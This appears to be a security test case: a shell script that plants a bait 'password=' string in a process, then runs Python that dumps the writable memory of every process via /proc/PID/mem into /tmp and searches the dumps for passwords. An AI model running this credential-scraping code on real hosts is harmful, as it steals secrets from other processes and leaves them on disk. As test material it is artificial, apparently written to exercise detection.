#!/bin/sh
. /opt/case/case.sh

python3 -c 'import time; s = "password=" + "bait" * 3; time.sleep(20)' & sleep 0.5
cat >/tmp/mp.py <<'END'
import os, re
found = 0
for p in filter(str.isdigit, os.listdir("/proc")):
    if int(p) == os.getpid(): continue
    try:
        maps = [l.split() for l in open(f"/proc/{p}/maps") if " rw-p " in l]
        with open(f"/proc/{p}/mem", "rb", 0) as m, open(f"/tmp/{p}.dump", "wb") as o:
            for r in maps:
                a, b = (int(x, 16) for x in r[0].split("-")); m.seek(a)
                try: o.write(m.read(min(b - a, 1 << 20)))
                except OSError: pass
        found += len(re.findall(rb"password=", open(f"/tmp/{p}.dump", "rb").read()))
    except OSError: pass
assert found
END
python3 /tmp/mp.py
took_place
